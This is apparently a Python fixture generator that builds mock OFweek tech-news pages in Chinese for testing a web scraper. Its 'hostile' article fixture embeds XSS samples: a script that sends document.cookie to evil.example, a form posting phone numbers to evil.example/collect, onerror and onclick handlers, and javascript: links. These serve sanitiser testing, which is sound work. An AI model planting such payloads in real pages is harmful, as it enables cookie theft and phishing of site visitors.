    <h1>{esc(art["title"])}</h1>
    <div class="tag_time clearfix">
      <span class="sdate">{art["date"]}</span>
      <span id="laiyuan"><span>来源：{esc(art["source"])}</span></span>
      <span class="comment_num"><a href="#comment">评论 <em>12</em></a></span>
    </div>
    {lead_html}
    <div class="article_con">
{body}
    </div>
    {pager}
    <div class="share"><span>分享到：</span><a href="javascript:void(0)" class="weixin">微信</a><a href="javascript:void(0)" class="weibo">微博</a></div>
    <div class="tag">关键词：{"".join(f'<a href="http://www.ofweek.com/tag-{quote(t)}.HTM" target="_blank">{esc(t)}</a>' for t in art["tags"])}</div>
    <div class="article_related"><h3>相关文章</h3><ul>{"".join(f'<li><a href="{u}" target="_blank">{esc(t)}</a></li>' for u, t, _ in art["related"])}</ul></div>
    <div class="statement">声明：本文为OFweek维科网原创文章，转载请注明出处。</div>
    <a name="comment"></a>
  </div>
  <div class="article_right fr">
    <div class="hot"><h3>热门文章</h3><ul>{"".join(f'<li><a href="{u}" target="_blank">{esc(t)}</a></li>' for u, t in SIDEBAR_LINKS[:4])}</ul></div>
  </div>
</div>
<div id="footer" class="w1000"><p><a href="http://www.ofweek.com/about/aboutus.html">关于我们</a> | <a href="http://www.ofweek.com/about/contact.html">联系我们</a> | <a href="http://www.ofweek.com/about/copyright.html">版权声明</a></p><p>Copyright © 2006-2018 OFweek.com All Rights Reserved 粤ICP备06087881号</p></div>
<script type="text/javascript" src="http://www.ofweek.com/js/tongji2018.js"></script>
</body>
</html>
"""


def old_pager(base: str, n: int, last: int) -> str:
    def page(i: int) -> str:
        return f"{base}.html" if i == 1 else f"{base}_{i}.html"

    parts = ['<div id="nextPage" class="page">']
    if n > 1:
        parts.append(f'<a href="{page(n - 1)}">上一页</a>')
    for i in range(1, last + 1):
        parts.append(f"<b>{i}</b>" if i == n else f'<a href="{page(i)}">{i}</a>')
    if n < last:
        parts.append(f'<a href="{page(n + 1)}">下一页</a>')
    parts.append("</div>")
    return "".join(parts)


# --------------------------------------------------------------------------------------
# Article bodies
# --------------------------------------------------------------------------------------

SEED_TITLE = "微医再获超10亿国资融资，数字医疗的风口要崛起了吗？"
SEED_IMAGES = [
    "https://mp.ofweek.com/Upload/News/Img/member4779/202207/wx_article__3c8dd277d7c15fae1e4bf502d625209c.jpg",
    "https://mp.ofweek.com/Upload/News/Img/member4779/202207/wx_article__2d45b99e0d9f10249a1e72d8de3b212b.jpg",
    "https://mp.ofweek.com/Upload/News/Img/member4779/202207/wx_article__fae5280a3ace359265fad9ed4840ed5c.jpg",
    "https://mp.ofweek.com/Upload/News/Img/member4779/202207/wx_article__168979d4d40c3ceb95cc03d80762b5e0.jpg",
]

# --- b. portal article with every kind of image --------------------------------------
PORTAL_TITLE = "先进封装产能告急：CoWoS扩产背后的供应链博弈"
P_IMG = {
    "lazy_data_src": f"{IMG}/2024-03/15/cowos_lazy_01.jpg",
    "lazy_data_original": f"{IMG}/2024-03/15/wafer_02.png",
    "protocol_relative": f"{IMG}/2024-03/15/fab_03.jpg",
    "relative": "https://ee.ofweek.com/Upload/News/2024-03/15/diagram_04.gif",
    "extensionless": "https://images.ofweek.com/image?id=1",
    "missing_404": f"{IMG}/2024-03/15/missing_06.jpg",
    "dropped": f"{IMG}/2024-03/15/broken_07.jpg",
    "slow": f"{IMG}/2024-03/15/slow_08.jpg",
    "not_an_image": f"{IMG}/2024-03/15/notimage_09.jpg",
    "redirect": f"{IMG}/2024-03/15/moved_10.jpg",
    "redirect_target": f"{IMG}/2024-03/15/real_10.jpg",
    "no_referrer": "https://mp.ofweek.com/Upload/News/Img/member2290/202403/wx_article__9b1e7c2d4a5f60718293a4b5c6d7e8f0.jpg",
}

PORTAL_BODY = f"""
<p>　　3月15日消息，随着AI服务器出货量持续攀升，先进封装产能再度成为半导体产业链上最紧俏的资源。多位供应链人士透露，CoWoS封装的订单能见度已排至2025年下半年，部分客户甚至开始为2026年的产能预付定金。</p>
<p style="text-align:center"><img class="lazy" src="{PLACEHOLDER}" data-src="{P_IMG["lazy_data_src"]}" alt="CoWoS封装结构示意图" width="600" height="338" /></p>
<p style="text-align:center;color:#999;">CoWoS封装结构示意图（图片来源：网络）</p>
<p><strong>一、产能缺口到底有多大？</strong></p>
<p>　　业内估算，2024年全球CoWoS月产能将从年初的约1.7万片提升至年底的3.2万片左右，但需求端的增长更为迅猛。仅头部GPU厂商一家，就预订了其中接近一半的产能；多家云服务商的自研加速芯片也在排队等待。</p>
<table border="1" cellspacing="0" cellpadding="4" style="width:100%;border-collapse:collapse;">
<tbody>
<tr><th>厂商</th><th>封装方案</th><th>2024年底月产能（万片，估算）</th></tr>
<tr><td>台积电</td><td>CoWoS-S / CoWoS-R / CoWoS-L</td><td>3.2</td></tr>
<tr><td>日月光</td><td>FOCoS</td><td>0.6</td></tr>
<tr><td>安靠</td><td>SWIFT</td><td>0.4</td></tr>
</tbody>
</table>
<p style="text-align:center"><img class="lazy" src="{PLACEHOLDER}" data-original="{P_IMG["lazy_data_original"]}" alt="12英寸晶圆" /></p>
<p>　　造成缺口的原因不止一个。一位封测厂高管对记者表示，<em>“先进封装正在从配角变成主角，但它的扩产节奏天然比前道慢。”</em>具体来看，瓶颈主要集中在三个环节：</p>
<ul>
<li>中介层（Interposer）面积持续放大，单片晶圆可切割数量下降；</li>
<li>HBM堆叠层数从8层走向12层，良率爬坡需要时间；</li>
<li>测试与基板环节同样吃紧，ABF载板交期被拉长到30周以上。</li>
</ul>
<p style="text-align:center"><img src="//images.ofweek.com/Upload/News/2024-03/15/fab_03.jpg" alt="封装产线" /></p>
<p><strong>二、扩产为何这么难？</strong></p>
<p>　　与新建一座晶圆厂相比，先进封装产线的资本开支看似不高，但关键设备高度集中。临时键合与解键合设备、混合键合机台的交期普遍在12个月以上，而熟练工程师的培养周期更长。</p>
<p style="text-align:center"><img src="../Upload/News/2024-03/15/diagram_04.gif" alt="2.5D与3D封装对比" /></p>
<p>　　与此同时，客户对封装方案的定制化要求越来越高。有业内人士透露，同一家客户的两代产品可能分别采用不同的中介层方案，这让产线切换和良率管理变得更加复杂。</p>
<p style="text-align:center"><img src="https://images.ofweek.com/image?id=1" alt="产能利用率走势" /></p>
<p style="text-align:center"><img src="{P_IMG["missing_404"]}" alt="已失效的图片" /></p>
<p><strong>三、国内厂商的机会在哪里？</strong></p>
<p>　　在海外龙头产能吃紧的背景下，国内封测厂正在加快布局2.5D封装。多家厂商已经完成小批量验证，并计划在年内实现量产。不过，业内普遍认为，国内厂商短期内更现实的机会在于承接溢出订单和配套环节。</p>
<p style="text-align:center"><img src="{P_IMG["dropped"]}" alt="国内封测厂产线" /></p>
<p style="text-align:center"><img src="{P_IMG["slow"]}" alt="设备交期统计" /></p>
<p>　　“从设备、材料到载板，先进封装是一条很长的链条，任何一个环节卡住，整体产能就上不去。”一位券商分析师表示，未来两年，围绕先进封装的投资仍将维持高景气。</p>
<p style="text-align:center"><img src="{P_IMG["not_an_image"]}" alt="防盗链图片" /></p>
<p style="text-align:center"><img src="{P_IMG["redirect"]}" alt="载板价格走势" /></p>
<p style="text-align:center"><img referrerpolicy="no-referrer" src="{P_IMG["no_referrer"]}" alt="行业会议现场" /></p>
<p>　　可以预见，在AI算力需求的持续推动下，先进封装将成为决定芯片交付能力的关键变量，产能之争也将从晶圆厂延伸至封测厂。</p>
"""
PORTAL_STATEMENT = '<p style="color:#999999;font-size:14px;">声明：本文为OFweek维科网原创文章，未经授权禁止转载。如需转载，请联系editor@ofweek.com并注明出处。</p>'

# --- c. multi-page article -------------------------------------------------------------
MULTI_TITLE = "车规MCU国产替代进入深水区：从“能用”到“好用”还有多远"
MULTI_PAGES = [
    f"""
<p>　　过去三年，车规级MCU经历了从“一芯难求”到库存高企的剧烈波动。2023年全球车规MCU市场规模约为82亿美元，海外前五大厂商合计占据超过八成的份额，国产厂商的整体占比仍不足5%。</p>
<p style="text-align:center"><img src="{IMG}/2024-02/27/mcu_market_p1.jpg" alt="车规MCU市场份额" /></p>
<p>　　缺芯潮期间，整车厂第一次把国产MCU纳入了供应商名单，但随着海外产能恢复，价格迅速回落，不少国产型号又从量产车型上被替换下来。</p>
<p><strong>一、功能安全认证是第一道门槛</strong></p>
<p>　　与消费级芯片不同，车规MCU必须通过ISO 26262功能安全认证。对于控制底盘、动力和制动的芯片，往往要求达到ASIL-D等级，这意味着从设计流程到工具链都要重新建立体系。</p>
<p>　　多家国产厂商表示，功能安全认证本身需要12到18个月，而在认证之前，客户通常不会给出量产定点。</p>
""",
    f"""
<p><strong>二、AEC-Q100可靠性测试只是开始</strong></p>
<p>　　通过AEC-Q100可靠性测试，只能说明芯片“能上车”。真正的考验来自整车厂长达两到三年的验证周期：高低温循环、长时间老化、电磁兼容测试，每一项都可能暴露新的问题。</p>
<p style="text-align:center"><img src="{IMG}/2024-02/27/mcu_test_p2.png" alt="可靠性测试流程" /></p>
<p>　　一位Tier1工程师坦言，国产MCU在参数上已经接近海外产品，但在软件生态和长期供货承诺上，仍然让采购部门心存顾虑。</p>
<p>　　配套的编译器、调试器和AUTOSAR软件栈同样是短板。很多整车项目沿用多年的软件架构，更换芯片意味着大量的移植和重新验证工作。</p>
""",
    f"""
<p><strong>三、国产厂商的突围路径</strong></p>
<p>　　从近两年的定点情况看，国产MCU的突破口主要集中在车身控制、座舱外设和新能源三电的辅助控制上。这些场景对成本敏感，验证周期相对较短。</p>
<p style="text-align:center"><img src="{IMG}/2024-02/27/mcu_roadmap_p3.jpg" alt="国产MCU产品路线" /></p>
<p>　　更长远来看，区域控制器架构的普及，将让高性能MCU的需求重新洗牌。谁能率先拿出满足ASIL-D、支持多核锁步和硬件安全模块的产品，谁就有机会进入下一代电子电气架构的核心位置。</p>
<p>　　从“能用”到“好用”，国产车规MCU还需要跨过生态与信任两道坎，这注定是一场持久战。</p>
""",
]


def multi_page_url(i: int) -> str:
    return MULTI if i == 1 else MULTI.replace(".html", f"_{i}.html")


def article_pager(i: int, last: int) -> str:
    base = MULTI.rsplit("/", 1)[1].removesuffix(".html")

    def rel(k: int) -> str:
        return f"{base}.html" if k == 1 else f"{base}_{k}.html"

    parts = ['<div class="artical-page">']
    if i > 1:
        parts.append(f'<a href="{rel(i - 1)}" class="prev">上一页</a>')
    for k in range(1, last + 1):
        parts.append(f'<span class="cur">{k}</span>' if k == i else f'<a href="{rel(k)}">{k}</a>')
    if i < last:
        parts.append(f'<a href="{rel(i + 1)}" class="next">下一页</a>')
    parts.append("</div>")
    return "".join(parts)


# --- d. old layout, two pages ---------------------------------------------------------
OLD_TITLE = "NB-IoT商用一周年：运营商补贴下的模组价格战"
OLD_LEAD = "导读：运营商补贴让NB-IoT模组价格在一年内腰斩，但“价格战”能否换来真正的规模化应用？"
OLD_IMAGES = [
    "http://images.ofweek.com/Upload/News/2018-6/12/nbiot_module_01.jpg",
    "http://images.ofweek.com/Upload/News/2018-6/12/nbiot_chart_02.png",
]
OLD_PAGES = [
    f"""      <p>　　2017年6月，国内三大运营商相继宣布NB-IoT网络正式商用。一年过去，全国NB-IoT基站数量已超过40万个，但连接数的增长远不及预期。</p>
      <p align="center"><img src="{OLD_IMAGES[0]}" alt="NB-IoT模组" border="0" /></p>
      <p>　　为了刺激市场，运营商推出了总额数亿元的模组补贴计划，单个模组补贴最高可达20元。受此影响，主流NB-IoT模组的售价从年初的六七十元下降到三十元左右。</p>
      <p>　　模组厂商普遍感受到了压力。一家深圳模组厂的负责人表示，补贴拉低了价格，却没有同步带来订单，“很多项目还停留在试点阶段”。</p>""",
    f"""      <p>　　从应用端看，智能水表、智能燃气表和智慧停车是NB-IoT最先放量的三个场景。其中，水表和燃气表占据了连接数的一半以上。</p>
      <p align="center"><img src="{OLD_IMAGES[1]}" alt="NB-IoT连接数分布" border="0" /></p>
      <p>　　业内人士认为，模组价格只是规模化的必要条件。只有当芯片、模组、平台和行业应用形成闭环，NB-IoT才能真正摆脱对补贴的依赖。</p>
      <p>　　按照运营商的规划，到2020年国内NB-IoT连接数有望突破6亿，届时模组价格有望进一步下探至20元以内。</p>""",
]


def old_page_url(i: int) -> str:
    return OLD if i == 1 else OLD.replace(".html", f"_{i}.html")


# --- e. unknown layout ----------------------------------------------------------------
UNKNOWN_TITLE = "大模型落地制造业：三个真实工厂里的AI质检实验"
UNKNOWN_IMAGE = f"{IMG}/2023-05/16/ai_inspection.jpg"
UNKNOWN_PARAGRAPHS = [
    "当大模型成为科技行业最热门的话题时，制造业的工程师们更关心一个朴素的问题：它能不能帮产线少漏检一个缺陷？过去两个月，我们走访了三家正在试点AI质检的工厂，试图找到答案。",
    "第一家是位于苏州的一家消费电子结构件厂。过去，这里的外观检测依靠近两百名质检员轮班完成，漏检率长期在千分之三左右。引入视觉大模型后，工厂把模型部署在产线旁的边缘服务器上，对每一个零件拍摄六个角度的照片。",
    "工厂的生产负责人告诉我们，新系统上线三个月后，漏检率降到了万分之五以下，但误检率一度高达百分之八，大量合格品被判为不良，反而增加了复检的工作量。经过两轮数据标注和模型微调，误检率才逐步降到可接受的水平。",
    "第二家是一家汽车零部件企业。与消费电子不同，汽车零部件的缺陷样本极少，一年下来真正的不良品只有几百件。为此，企业尝试用生成式模型合成缺陷图像来扩充训练集，这种做法在业内仍有争议。",
    "这家企业的质量总监坦言，合成数据确实提高了模型对罕见缺陷的召回率，但审核部门要求每一张合成图像都必须可追溯，这让数据管理的成本大幅上升。",
    "第三家是一家光伏组件厂。EL检测图像的判读过去高度依赖老师傅的经验，新员工往往需要半年时间才能独立上岗。工厂把历年积累的数十万张标注图像交给模型学习，并让模型给出判读理由，方便质检员复核。",
    "三个案例有一个共同点：真正决定项目成败的，不是模型参数量的大小，而是数据的质量、产线的节拍和质检流程的重新设计。一位参与项目的算法工程师总结说，大模型在工厂里不是替代人，而是把人从重复劳动中解放出来，去处理模型拿不准的那百分之一。",
    "从投入产出看，三家工厂的AI质检项目投资回收期在十个月到两年之间。随着算力成本下降和行业模型的成熟，这一周期有望进一步缩短。",
]

# --- f. hostile ------------------------------------------------------------------------
HOSTILE_TITLE = "AI芯片\"内卷\"之后: 谁是下一个'英伟达'? --- #算力 {{ price }} {% if win %}🚀"
HOSTILE_IMAGE = f"{IMG}/2023-11/08/robot_arm.png"
HOSTILE_BODY = f"""
<p>　　算力芯片的竞争正在从单卡性能转向系统能力。多家初创公司在近期发布了新一代训练芯片，宣称在特定模型上的能效比达到国际主流产品的水平。</p>
<script type="text/javascript">document.write('<img src="https://evil.example/track.gif?c=' + document.cookie + '">');</script>
<p>　　模板语法测试：{{{{ x }}}} 与 {{% include "secret.html" %}} 应当作为普通文字原样显示。</p>
<p onclick="stealCookies()">　　机器人关节模组的国产化率已超过六成，但高精度减速器仍依赖进口。</p>
<p style="text-align:center"><img src="{HOSTILE_IMAGE}" onerror="alert('xss')" alt="协作机械臂" /></p>
<p>　　<a href="javascript:alert(document.domain)">查看完整榜单</a>　<a href="JaVaScRiPt:void(0)" onmouseover="track(this)">行业报告下载</a>　<a href="https://robot.ofweek.com/" target="_blank">OFweek机器人网</a></p>
<iframe src="https://player.youku.com/embed/XNTk2NzQ4ODQ0MA==" width="640" height="360" frameborder="0" allowfullscreen></iframe>
<object type="application/x-shockwave-flash" data="https://www.ofweek.com/flash/player.swf" width="640" height="360"><param name="movie" value="https://www.ofweek.com/flash/player.swf" /><embed src="https://www.ofweek.com/flash/player.swf" width="640" height="360"></embed></object>
<style type="text/css">.article_con p {{ color: red; }}</style>
<form action="https://evil.example/collect" method="post"><input type="text" name="phone" placeholder="输入手机号领取报告" /></form>
<p>　　结论：真正的竞争力来自软件生态与量产交付能力，而不是发布会上的峰值算力。</p>
"""

# --- h. UTF-8, charset only in the HTTP header -----------------------------------------
UTF8_TITLE = "手术机器人集采落地在即，国产厂商如何守住价格底线？"
UTF8_IMAGE = f"{IMG}/2023-09/21/surgical_robot.jpg"
UTF8_BODY = f"""
<p>　　9月21日，多个省份的医用耗材联盟相继发布公告，将腔镜手术机器人的配套耗材纳入带量采购范围。这意味着，曾经动辄上千万元一台的手术机器人，正在迎来价格体系的重塑。</p>
<p style="text-align:center"><img src="{UTF8_IMAGE}" alt="腔镜手术机器人" /></p>
<p>　　🩺 业内人士指出，集采首先冲击的是耗材和服务收入——这恰恰是手术机器人厂商最重要的利润来源。以单台设备每年开展数百台手术计算，耗材收入往往超过设备本身。</p>
<p>　　国产厂商的应对策略各不相同：有的选择以价换量，快速扩大装机规模；有的则押注专科化产品，避开与进口品牌的正面竞争。</p>
<p>　　“集采不是终点，而是手术机器人从高端医院走向地市级医院的起点。”一位投资人表示，未来三年，国产手术机器人的装机量有望实现翻倍增长。</p>
"""

# --- i. second self-media article ------------------------------------------------------
SELF_TITLE = "RISC-V进入数据中心，还缺哪几块拼图？"
SELF_IMAGES = [
    "https://mp.ofweek.com/Upload/News/Img/member5120/202208/wx_article__7e3f5a1c9b2d4e6f8a0b1c2d3e4f5a6b.jpg",
    "https://mp.ofweek.com/Upload/News/Img/member5120/202208/wx_article__0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f.jpg",
]
SELF_BODY = (
    f"""<p style="text-indent: 2em; text-align: left;">RISC-V诞生十余年，已经在微控制器和物联网芯片中站稳脚跟。如今，越来越多的厂商把目光投向了数据中心，试图在服务器CPU这个最难啃的市场里分一杯羹。</p><p style="text-align:center"><img title="图1.png" src="{SELF_IMAGES[0]}" referrerpolicy="no-referrer"></p><p style="text-indent: 2em; text-align: left;"><strong>一、性能已经不是最大的问题</strong></p><p style="text-indent: 2em; text-align: left;">从公开的跑分数据看，新一代高性能RISC-V核心在单核性能上已经接近主流服务器CPU两三年前的水平。对于很多横向扩展的云原生负载来说，这样的性能已经够用。</p><p style="text-indent: 2em; text-align: left;"><strong>二、软件生态才是真正的拼图</strong></p><p style="text-indent: 2em; text-align: left;">服务器市场最看重的是软件兼容性。操作系统、虚拟化、数据库、Java运行时，每一层都需要针对新的指令集做大量的适配和优化工作，而这些工作无法一蹴而就。</p><p style="text-align:center"><img title="图2.png" src="{SELF_IMAGES[1]}" referrerpolicy="no-referrer"></p><p style="text-indent: 2em; text-align: left;">值得注意的是，RVA23配置文件的发布让软件厂商有了明确的适配目标，这或许是RISC-V进入数据中心最重要的一块拼图。</p><p>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;<span style="color:#999999;font-family:  微软雅黑;font-size:14px;">原文标题&nbsp;:&nbsp;{SELF_TITLE}</span></p>"""
    + " \n  "
)

# --- k. ee-only article (only on the channel list) -------------------------------------
EE_TITLE = "氮化镓快充渗透率突破四成，下一站是数据中心电源"
EE_IMAGE = f"{IMG}/2023-12/05/gan_charger.jpg"
EE_BODY = f"""
<p>　　据行业统计，2023年氮化镓快充在手机原装充电器中的渗透率已突破四成，百瓦以上的大功率快充几乎全部采用了氮化镓方案。</p>
<p style="text-align:center"><img src="{EE_IMAGE}" alt="氮化镓快充" /></p>
<p>　　消费电子市场逐渐饱和之后，氮化镓厂商开始把目光转向数据中心电源和车载充电机。与硅器件相比，氮化镓在高频开关场景下的损耗优势，可以让服务器电源的功率密度提升三成以上。</p>
<p>　　不过，数据中心客户对可靠性的要求远高于消费电子，氮化镓器件要真正进入这一市场，还需要经历更长时间的验证。</p>
"""


# The body of seeds/000_3555a7db469a33f8.txt (inner HTML of div#articleC), NBSP as &nbsp;.
SEED_BODY = (
    '<p style="text-indent: 2em; text-align: left;">最近一段时间，互联网<span class="hrefStyle"><a href="http://medical.ofweek.com/" target="_blank" title="医疗">医疗</a></span>赛道似乎有些沉寂，不过就在大家快忽略互联网医疗赛道的时候，一则消息的出现再次引发了整个市场的关注，<span class="hrefStyle"><a href="https://www.ofweek.com/medical/tag-%E6%95%B0%E5%AD%97%E5%8C%BB%E7%96%97.HTM" target="_blank" title="数字医疗">数字医疗</a></span>平台微医再获超10亿国资融资，为什么微医会被国资看中？数字医疗的风口要崛起了吗？</p>'
    '<p style="text-align:center"><img title="色相_饱和度 1.png" src="https://mp.ofweek.com/Upload/News/Img/member4779/202207/wx_article__3c8dd277d7c15fae1e4bf502d625209c.jpg" referrerpolicy="no-referrer"></p>'
    '<p style="text-indent: 2em; text-align: left;"><strong>一、微医再获超10亿国资融资</strong></p>'
    '<p style="text-indent: 2em; text-align: left;">据《证券日报》的报道，数字医疗平台微医近日获得一笔金额超10亿元融资，该笔融资领投方为山东省的国有产业投资基金。并且，该文章还称，多地国有产业投资基金正与微医洽谈，计划通过此类方式来加速数字医疗平台与本地医疗健康服务体系的融合。</p>'
    '<p style="text-indent: 2em; text-align: left;">对于前述消息，微医方面未予回应。而这也是微医在多次被报道拟IPO后最新资本市场动向。</p>'
    '<p style="text-indent: 2em; text-align: left;">微医是一家以挂号服务起家的互联网医疗公司，专职运营数字健康平台，总部位于浙江杭州，由廖杰远带领团队创建于2010年。其核心业务覆盖医疗、医药、医保等领域。</p>'
    '<p style="text-indent: 2em; text-align: left;">公开信息看，截至2022年6月，微医在中国已拥有34家互联网医院，其中有19家成为医保定点机构。微医平台连接了超过8000家医院，覆盖中国95％以上的三甲医院，注册的近30万名医生中，86％为主治医生或以上级别。</p>'
    '<p style="text-indent: 2em; text-align: left;">该公司自2019年开始落地的“数字健共体”模式，已经成长为其核心业务，试图融合区域中的医疗、医药、医保三方。简单理解，数字健共体系该企业为自家互联网医院寻找的区域落脚点，进而迈入医保及其他支付方的门，是一种互联网平台和地方医疗服务体系深度合作的方式。</p>'
    '<p style="text-indent: 2em; text-align: left;">据中新经纬的报道，外界普遍认为，中国的互联网<span class="hrefStyle"><a href="http://medical.ofweek.com/CATList-1111-8400-medical.html" target="_blank" title="医疗行业">医疗行业</a></span>已经进入到“下半场”，一个重要标志是：市场对互联网医疗平台的估值逻辑开始变化。</p>'
    '<p style="text-indent: 2em; text-align: left;">监管收严，即是缩影。今年，《互联网诊疗监管细则（试行）》《中华人民共和国药品管理法实施条例（修订草案征求意见稿）》的出台，国家开始加强对互联网诊疗服务、网络卖药的监管，推动互联网医疗回归“严肃医疗”。医药电商受限，专注做“严肃医疗”服务的平台似乎有了更多机会，微医是这个赛道为数不多还在坚持这一模式的代表。</p>'
    '<p style="text-indent: 2em; text-align: left;">根据媒体报道透露的信息，微医之所以获国资的“青睐”，很大程度也是因其“数字健共体”业务，业务模式落地得到验证，营收也到了上量的阶段。</p>'
    '<p style="text-align:center"><img title="色相_饱和度 1.png" src="https://mp.ofweek.com/Upload/News/Img/member4779/202207/wx_article__2d45b99e0d9f10249a1e72d8de3b212b.jpg" referrerpolicy="no-referrer"></p>'
    '<p style="text-indent: 2em; text-align: left;"><strong>二、数字医疗的下半场该怎么看？</strong></p>'
    '<p style="text-indent: 2em; text-align: left;">说实在，看到微医获得的高额融资，很多业内人的感觉是久违了，伴随着国家对于互联网医疗管控的日益从严，互联网医疗赛道的传统“卖药”模式变得日益艰难，也导致了投资的整体匮乏，在这样的大背景下，微医所获得的高额融资也算是市场上难得的一针强心剂，当互联网医疗进入了下半场之后，互联网医疗的未来到底该咋看？</p>'
    '<p style="text-indent: 2em; text-align: left;">首先，为什么是山东国资加入融资？说起国有资本大规模投资，这些年动辄就是合肥、珠海、重庆、成都，山东作为中国的东部沿海大省，投资上却相对谨慎，这次山东大手笔投入了10亿，更是引人注目。</p>'
    '<p style="text-indent: 2em; text-align: left;">当我们分析众多媒体报道的时候，就会发现微医能被市场关注的核心优势在于其核心的业务模式“数字健共体”，相比于大多数互联网医疗企业将单纯的互联网业务注入传统医院的“轻医疗”逻辑不同，“轻医疗”看上去成本不高，但是由于医院本身的业务场景相对沉重，互联网的“轻”与医院的“重”难以融合，最终成为了互联网医疗的“两张皮”，表面上说的很好，但是实际上却始终落不了地，患者在医院还是必须要遵从医院的老玩法，互联网的水土不服可见一斑。</p>'
    '<p style="text-indent: 2em; text-align: left;">不过微医的逻辑却是将浮于表面的轻参与变成深入参与，2019年9月，微医与泰安市政府开始战略合作，构建了一个“泰安模式”，所谓“泰安模式”就是把“互联网＋医保＋医疗＋医药”的整个环节全部打通，以慢性病管理为支点，实现慢病诊疗、健康管理、医保支付的“院内＋院外”“线上＋线下”全程服务，慢病患者就诊时间由过去的2－3小时缩短到20－30分钟，医院门诊压力分流20％以上。而且利用互联网的数字化优势，把泰安167家医疗机构纳入全流程医保智能监管，从而实现了对于医保资金的事前提醒、事中预警、事后审核的全流程管理。</p>'
    '<p style="text-indent: 2em; text-align: left;">以“泰安模式”为起点，微医“数字健共体”核心业务在山东不断拓展，并深入落地了山东省互联网大健康平台、山东互联网中药交易平台“双平台”服务模式。2020年，微医与济南高新控股等机构联合发起山东省互联网大健康服务平台，服务覆盖全省16个地市，累计服务参保人1800万次，服务慢病人群近200万人次，平台还在济南、泰安、潍坊等地市已落地近50家数字化慢病服务中心。</p>'
    '<p style="text-indent: 2em; text-align: left;">另外，“数字健共体”带动了医疗、医药、保险、医养和金融等服务机构的落地。微医在济南投资设立的中医药产业数字化创新联合体——山东扁鹊中医药健康产业集团，搭建山东互联网中药（材）交易中心，开展创新的中药（材）交易。</p>'
    '<p style="text-indent: 2em; text-align: left;">由于“数字健共体”在山东的落地成效，最终让山东主动下场，参与了这次大规模融资。另据报道，日前济南高新区代表济南市与微医签署合作协议，合作进一步升级，着力打造上述“双平台”。</p>'
    '<p style="text-align:center"><img title="色相_饱和度 1.png" src="https://mp.ofweek.com/Upload/News/Img/member4779/202207/wx_article__fae5280a3ace359265fad9ed4840ed5c.jpg" referrerpolicy="no-referrer"></p>'
    '<p style="text-indent: 2em; text-align: left;">其次，互联网医疗的数字化，落地才是真正的关键。“数字健共体”实质上是数字医疗的一个新业态，它如何以点带面给整个医疗服务带来升级是市场最关注的东西。因此“数字健共体”的逻辑还在不断发挥壮大，甚至成为了互联网医疗落地的一种底层实践逻辑。</p>'
    '<p style="text-indent: 2em; text-align: left;">在天津，微医与天津当地合作打造了天津市基层数字健共体，共同建设数字化医疗的发展逻辑。第一步，通过互联网发展的市场优势，构建数字化、集约化服务体系，将分散在全市众多地方的医疗资源实现有机整合，从而提高医疗资源的使用效率。第二步，通过标准化、一体化的服务体系，不断提升基层医疗机构的服务能力，让基层医疗机构也具备了一定的医疗服务能力。第三步，将原先的医保传统模式改造成为按疗效付费的健康责任制，从而提升了基层医生的工作积极性。</p>'
    '<p style="text-indent: 2em; text-align: left;">通过这种数字化、互联网化的改造，可以有效地将医疗服务开始从“按项／按量付费”转向“按效付费”，并达成了基层医疗机构能力提升、药品耗材采购成本降低和医保资金使用效率提高的目标，真正实现了医疗的全流程再造。</p>'
    '<p style="text-indent: 2em; text-align: left;">在福建三明，当地通过微医搭建全市统一的“医院互联网数字服务平台”和<span class="hrefStyle"><a href="http://medical.ofweek.com/CAT-11118-Telemedicine.html" target="_blank" title="远程医疗">远程医疗</a></span>服务网络，全面覆盖全市12家总医院（医联体）及下辖乡镇卫生院，真正将医疗服务的资源从一个个分散在各地的服务孤岛之中整合起来，从而实现了医疗服务效率的进一步提升。</p>'
    '<p style="text-indent: 2em; text-align: left;">其实，仔细看互联网医疗相互联系的“数字健共体”的发展逻辑就会发现，所谓“数字健共体”是把传统医疗服务中相互割裂的各个产业参与方通过互联网的方式整合起来，让原先按项目付费，医院医生守着耗材、医药赚钱的模式，逐渐转变成为在“数字健共体”逻辑之下，按病种／人头付费，医务人员在患者完整的数字健康画像的引导下，提供线上线下结合的全生命周期服务，这样可以让单一环节收费变成了流程绩效，有效地提升了医疗产业的积极性，降低了不同环节间的摩擦损耗，从而提升了效率。</p>'
    '<p style="text-align:center"><img title="色相_饱和度 1.png" src="https://mp.ofweek.com/Upload/News/Img/member4779/202207/wx_article__168979d4d40c3ceb95cc03d80762b5e0.jpg" referrerpolicy="no-referrer"></p>'
    '<p style="text-indent: 2em; text-align: left;">第三，互联网医疗的未来到底该怎么看？<span style="text-indent: 2em;">这些年，伴随着中国互联网医疗的发展逐渐进入深水区，原先互联网医疗企业争抢单纯医药蛋糕的业务逻辑越来越难以为继，想要实现长期可持续的发展，互联网医疗的全流程化构建显得尤其重要，“数字健共体”就是在全流程发展的逻辑中逐渐出现的一种探索方向。</span></p>'
    '<p style="text-indent: 2em; text-align: left;">对于每个患者来说，去医院看病的核心目的始终是治好疾病、获得健康生活，从这个目标出发，互联网医疗应该逐渐放弃短视的单一业务模式，向着更加多元化、立体化的方向发展，不过正所谓“知易行难”，立体化的医疗服务往往需要更多的人力、资源的持续投入，所以走这条路的公司往往需要忍耐更长时间的亏损或低收入状态。</p>'
    '<p style="text-indent: 2em; text-align: left;">不过，当前互联网医疗的风口却正在向着立体化的方向转变，“做难而正确的事情”可能才是各大互联网医疗企业最需要做的。</p>'
    '<p style="text-indent: 2em; text-align: left;">每日一句一个人脾气好，不容易发火，不跟人过不去，不但对自己是幸福，也对他周围的人是幸福。相反，好发脾气，老跟人抬杠，喜欢挑人毛病的人，不但一辈子磕磕碰碰，他周围的人也受累。这个简单的道理我到四十多岁才慢慢明白过来。——茅于轼</p>'
    '<p>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;<span style="color:#999999;font-family:  微软雅黑;font-size:14px;">原文标题&nbsp;:&nbsp;微医再获超10亿国资融资，数字医疗的风口要崛起了吗？</span></p>'
    " \n  "
)


# --------------------------------------------------------------------------------------
# Article metadata (drives both the pages and ofweek-cases.yaml)
# --------------------------------------------------------------------------------------

EE_CRUMBS = [
    ("https://www.ofweek.com/", "OFweek首页"),
    ("https://ee.ofweek.com/", "电子工程"),
    (ee_list(1), "资讯"),
]
RELATED_EE = [
    (
        "https://ee.ofweek.com/2024-03/ART-8420-2800-30628412.html",
        "国产EDA工具链首次完成5纳米全流程验证",
        "2024-03-14",
    ),
    (
